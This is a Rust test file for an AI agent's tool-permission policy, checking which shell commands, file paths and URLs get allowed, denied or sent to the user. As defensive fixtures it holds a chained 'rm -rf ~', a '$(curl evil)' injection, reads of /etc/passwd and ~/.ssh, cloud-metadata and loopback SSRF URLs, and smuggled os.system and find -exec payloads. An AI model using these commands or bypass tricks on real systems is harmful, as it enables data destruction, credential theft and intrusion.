//! What the policy decides, as tables.

use super::*;
use crate::tool::Permissions;
use serde_json::json;

const HERE: DocId = DocId([1; 16]);
const RUN: DocId = DocId([2; 16]);

fn tool(name: &str, risk: Risk, process: bool, network: bool) -> ToolSpec {
    ToolSpec {
        name: name.to_owned(),
        description: String::new(),
        parameters: json!({}),
        risk,
        permissions: Permissions { network, fs: true, process, ui: false },
        idempotent: true,
        source: Source::BuiltIn,
    }
}

fn decided(policy: &Policy, tool: &ToolSpec, arguments: &Value, facts: &Facts) -> Verdict {
    policy.decide(tool, arguments.as_object().expect("an object"), facts, HERE, RUN)
}

fn decide(policy: &Policy, tool: &ToolSpec, arguments: &Value) -> Word {
    decided(policy, tool, arguments, &Facts::default()).word
}

fn rule(pattern: &str, word: Word) -> Rule {
    Rule::typed(pattern, word, None, "")
}

#[test]
fn rules_decide() {
    let mut policy = Policy {
        rules: vec![rule("shell: cargo test *", Word::Allow), rule("*: *secret*", Word::Deny)],
        hosts: vec![".example.org".to_owned()],
        ..Policy::default()
    };
    let shell = tool("shell", Risk::Medium, true, false);
    let cases = [
        ("cargo test --lib", Word::Allow),
        ("cargo test ", Word::Allow),
        ("cargo test; rm -rf ~", Word::Ask),
        ("cargo test $(curl evil)", Word::Ask),
        ("cargo test | tee secret", Word::Deny),
        ("cargo test --config 'target.x.runner=\"sh\"' $X", Word::Ask),
        ("cargo build", Word::Ask),
    ];
    for (command, word) in cases {
        assert_eq!(decide(&policy, &shell, &json!({"command": command})), word, "{command}");
    }
    let read = tool("read_file", Risk::None, false, false);
    let paths = [
        ("notes/a.md", Word::Allow),
        ("../a.md", Word::Deny),
        ("/etc/passwd", Word::Deny),
        ("~/.ssh/id", Word::Deny),
        ("a/.git/config", Word::Deny),
        ("my secret.md", Word::Deny),
    ];
    for (path, word) in paths {
        assert_eq!(decide(&policy, &read, &json!({"path": path})), word, "{path}");
    }
    let fetch = tool("fetch_url", Risk::High, false, true);
    let urls = [
        ("https://docs.example.org/a", Word::Allow),
        ("https://example.org.evil.com/", Word::Ask),
        ("https://user@evil.com:80/example.org", Word::Deny),
        ("file:///etc/passwd", Word::Deny),
        ("http://evil.com/?x=://docs.example.org/", Word::Ask),
        ("http://evil.com\\.docs.example.org/", Word::Ask),
    ];
    for (url, word) in urls {
        assert_eq!(decide(&policy, &fetch, &json!({"url": url})), word, "{url}");
    }
    policy.unconfined = Some("no Landlock".to_owned());
    assert_eq!(decide(&policy, &shell, &json!({"command": "cargo test x"})), Word::Ask);
}

#[test]
fn a_decision_reaches_as_far_as_the_user_said() {
    let shell = tool("shell", Risk::Medium, true, false);
    let facts = Facts::default();
    let arguments = json!({"command": "make; make install"});
    let arguments = arguments.as_object().expect("an object");
    assert_eq!(Policy::learned(Scope::Once, true, &shell, arguments, &facts, HERE, RUN), None);
    let rule = Policy::learned(Scope::Run, true, &shell, arguments, &facts, HERE, RUN).expect("a rule");
    let policy = Policy { rules: vec![rule], ..Policy::default() };
    assert_eq!(policy.decide(&shell, arguments, &facts, HERE, RUN).word, Word::Allow);
    assert_eq!(policy.decide(&shell, arguments, &facts, HERE, DocId([3; 16])).word, Word::Ask, "another run");
    assert_eq!(decide(&policy, &shell, &json!({"command": "make; make uninstall"})), Word::Ask);
}

/// The holes that the audit of issue 19 found, each as it was.
#[test]
fn literal_text_never_becomes_a_pattern() {
    let learned = |tool: &ToolSpec, arguments: &Value, facts: &Facts| {
        let arguments = arguments.as_object().expect("an object");
        let rule = Policy::learned(Scope::Always, true, tool, arguments, facts, HERE, RUN).expect("a rule");
        // As it is kept and read again.
        let kept = serde_json::to_string(&rule).expect("written");
        Policy { rules: vec![serde_json::from_str(&kept).expect("read")], ..Policy::default() }
    };
    let facts = Facts::default();
    let python = tool("run_python", Risk::Medium, true, false);
    let policy = learned(&python, &json!({"code": "print(2*3)"}), &facts);
    assert_eq!(decide(&policy, &python, &json!({"code": "print(2*3)"})), Word::Allow);
    assert_eq!(decide(&policy, &python, &json!({"code": "print(2); import os; os.system('x') #3)"})), Word::Ask);

    let shell = tool("shell", Risk::Medium, true, false);
    let policy = learned(&shell, &json!({"command": "find * -name n.md"}), &facts);
    assert_eq!(decide(&policy, &shell, &json!({"command": "find * -name n.md"})), Word::Allow);
    assert_eq!(decide(&policy, &shell, &json!({"command": "find . -exec sh -c x -name n.md"})), Word::Ask);

    let fetch = tool("fetch_url", Risk::High, false, true);
    let policy = learned(&fetch, &json!({"url": "http://docs.rs:8080/a?*"}), &facts);
    for (url, word) in [
        ("http://docs.rs:8080/b", Word::Allow),
        ("http://docs.rs:8080/?x=1", Word::Allow),
        ("http://docs.rs/b", Word::Ask),
        ("https://docs.rs:8080/b", Word::Ask),
        ("http://other/?x=://docs.rs:8080/", Word::Ask),
        ("http://docs.rs:8080@other/", Word::Deny),
        ("http://other:8080/docs.rs", Word::Ask),
    ] {
        assert_eq!(decide(&policy, &fetch, &json!({"url": url})), word, "{url}");
    }

    // A cell is bound to the code that runs.
    let cell = tool("run_cell", Risk::Medium, true, false);
    let code = |text: &str| Facts {
        code: vec![store::Piece { title: "Cell 1".to_owned(), text: text.to_owned() }],
        ips: Vec::new(),
    };
    let arguments = json!({"path": "a.md", "cell": 1});
    let policy = learned(&cell, &arguments, &code("print(1)"));
    assert_eq!(decided(&policy, &cell, &arguments, &code("print(1)")).word, Word::Allow);
    assert_eq!(decided(&policy, &cell, &arguments, &code("import os")).word, Word::Ask);
    assert_eq!(decided(&policy, &cell, &arguments, &Facts::default()).word, Word::Ask);
}

#[test]
fn rules_of_older_versions_allow_no_more_than_they_said() {
    let old = |pattern: &str, word: &str| -> Policy {
        let kept = json!({"pattern": pattern, "word": word, "within": null, "origin": "decided by you"});
        Policy { rules: vec![serde_json::from_value(kept).expect("read")], ..Policy::default() }
    };
    let shell = tool("shell", Risk::Medium, true, false);
    let policy = old("shell: find * -name n.md", "allow");
    assert_eq!(decide(&policy, &shell, &json!({"command": "find * -name n.md"})), Word::Allow);
    assert_eq!(decide(&policy, &shell, &json!({"command": "find . -exec x -name n.md"})), Word::Ask);
    let fetch = tool("fetch_url", Risk::High, false, true);
    let policy = old("fetch_url: *://docs.rs/*", "allow");
    assert_eq!(decide(&policy, &fetch, &json!({"url": "http://evil/?x=://docs.rs/"})), Word::Ask);
    assert_eq!(
        decide(&old("fetch_url: *://docs.rs/*", "deny"), &fetch, &json!({"url": "http://docs.rs/"})),
        Word::Deny
    );
    let cell = tool("run_cell", Risk::Medium, true, false);
    assert_eq!(decide(&old("run_cell: a.md", "allow"), &cell, &json!({"path": "a.md", "cell": 1})), Word::Ask);
    let delete = tool("delete_file", Risk::Medium, false, false);
    assert_eq!(decide(&old("delete_file", "allow"), &delete, &json!({"path": "a.md"})), Word::Allow);
    let mut served = tool("files_remove", Risk::High, false, false);
    served.source = Source::Server { server: "files".to_owned(), tool: "remove".to_owned() };
    assert_eq!(decide(&old("files_remove", "allow"), &served, &json!({"path": "a.md"})), Word::Ask);
    // What neither version can read allows nothing.
    let kept = json!([{"decided": {"tool": "shell", "calls": {"kind": "newer"}}, "word": "allow"}, {"word": "allow"}]);
    let rules: Vec<Rule> = serde_json::from_value(kept).expect("read");
    assert_eq!(decide(&Policy { rules, ..Policy::default() }, &shell, &json!({"command": "x"})), Word::Ask);
}

#[test]
fn what_lies_outside_of_the_internet_is_asked_about_by_its_name() {
    let fetch = tool("fetch_url", Risk::High, false, true);
    let listed = |list: &[&str]| Policy {
        hosts: list.iter().map(|host| (*host).to_owned()).collect(),
        restricted: true,
        ..Policy::default()
    };
    let policy = Policy::default();
    for (url, named) in [
        ("http://127.0.0.1:8080/", "loopback address 127.0.0.1"),
        ("http://0x7f000001/", "loopback address 127.0.0.1"),
        ("http://2130706433/", "loopback address 127.0.0.1"),
        ("http://017700000001/", "loopback address 127.0.0.1"),
        ("http://127.1/", "loopback address 127.0.0.1"),
        ("http://0.0.0.0/", "unspecified address 0.0.0.0"),
        ("http://[::ffff:127.0.0.1]/", "loopback address 127.0.0.1"),
        ("http://localhost./", "loopback address 127.0.0.1"),
        ("http://169.254.169.254/latest", "cloud metadata address 169.254.169.254"),
        ("http://10.0.0.1/", "private address 10.0.0.1"),
    ] {
        let verdict = decided(&policy, &fetch, &json!({"url": url}), &Facts::default());
        assert!(verdict.word == Word::Ask && verdict.why.contains(named), "{url}: {verdict:?}");
    }
    let facts = Facts { ips: vec!["192.168.1.7".parse().expect("an address")], code: Vec::new() };
    let intranet = json!({"url": "http://wiki.example/"});
    for policy in
        [listed(&["wiki.example"]), Policy { rules: vec![rule("fetch_url", Word::Allow)], ..Policy::default() }]
    {
        let verdict = decided(&policy, &fetch, &intranet, &facts);
        assert!(verdict.word == Word::Ask, "{verdict:?}");
        assert_eq!(decide(&policy, &fetch, &intranet), Word::Allow, "where it means a public address");
    }
    assert!(decided(&listed(&["wiki.example"]), &fetch, &intranet, &facts).why.contains("private address 192.168.1.7"));
    assert_eq!(decide(&listed(&["localhost"]), &fetch, &json!({"url": "http://localhost/"})), Word::Ask);
    assert_eq!(decide(&listed(&["127.0.0.1"]), &fetch, &json!({"url": "http://127.0.0.1:9/"})), Word::Allow);
    assert_eq!(decide(&listed(&["127.0.0.1"]), &fetch, &json!({"url": "http://localhost/"})), Word::Deny);
    // A list of hosts is no leave for a tool of the user's own.
    let mut own = tool("peek", Risk::High, true, true);
    own.source = Source::User { code: "aa".to_owned() };
    let policy = Policy { hosts: vec!["docs.rs".to_owned()], ..Policy::default() };
    assert_eq!(decide(&policy, &own, &json!({"url": "https://docs.rs/"})), Word::Ask);
    // To a decision belongs what the name meant then.
    let arguments = intranet.as_object().expect("an object");
    let learned = Policy::learned(Scope::Always, true, &fetch, arguments, &facts, HERE, RUN).expect("a rule");
    let policy = Policy { rules: vec![learned], ..Policy::default() };
    assert_eq!(decided(&policy, &fetch, &intranet, &facts).word, Word::Allow);
    let other = Facts { ips: vec!["127.0.0.1".parse().expect("an address")], code: Vec::new() };
    assert_eq!(decided(&policy, &fetch, &intranet, &other).word, Word::Ask);
    // Restricted means restricted, whatever was allowed before.
    let policy = Policy { restricted: true, ..policy };
    assert_eq!(decided(&policy, &fetch, &intranet, &facts).word, Word::Deny);
}

#[test]
fn typed_patterns_of_addresses_are_parsed() {
    let fetch = tool("fetch_url", Risk::High, false, true);
    let cases: &[(&str, &[(&str, bool)])] = &[
        (
            "fetch_url: *://docs.rs/*",
            &[
                ("https://docs.rs/a", true),
                ("http://docs.rs/", true),
                ("http://docs.rs:81/", false),
                ("http://evil/?x=://docs.rs/", false),
                ("http://evil/://docs.rs/", false),
            ],
        ),
        (
            "fetch_url: https://*.rust-lang.org",
            &[
                ("https://doc.rust-lang.org/std", true),
                ("https://rust-lang.org", false),
                ("https://x.evil/.rust-lang.org", false),
            ],
        ),
        (
            "fetch_url: http://127.0.0.1:9000/api/*",
            &[
                ("http://127.1:9000/api/x", true),
                ("http://127.0.0.1:9000/api/../x", false),
                ("http://127.0.0.1/api/x", false),
            ],
        ),
        ("fetch_url: https://docs.rs*", &[("https://docs.rs/", false), ("https://docs.rs.evil/", false)]),
        ("fetch_url: *", &[("https://a/", true), ("http://127.0.0.1/", false)]),
        ("fetch_url", &[("https://a/", true), ("http://127.0.0.1/", false), ("http://localhost/", false)]),
    ];
    for (pattern, urls) in cases {
        let policy = Policy { rules: vec![rule(pattern, Word::Allow)], ..Policy::default() };
        for (url, fits) in *urls {
            let word = if *fits { Word::Allow } else { Word::Ask };
            assert_eq!(decide(&policy, &fetch, &json!({"url": url})), word, "{pattern} {url}");
        }
    }
}
